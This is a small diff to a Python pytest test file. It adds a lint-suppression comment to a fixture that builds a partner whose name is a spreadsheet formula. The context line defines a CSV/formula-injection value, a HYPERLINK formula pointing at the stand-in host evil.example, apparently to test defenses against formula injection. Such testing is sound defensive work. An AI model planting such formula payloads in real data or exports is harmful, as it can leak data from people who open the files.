@@ -173,7 +173,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?x","x")'
 
 
 @pytest.fixture
-def formula_partner(app, make, scenario):
+def formula_partner(app, make, scenario):  # noqa: F811 - the scenario fixture
     """A partner whose name is a spreadsheet formula, prescriber of learners A and B."""
 
     def build():
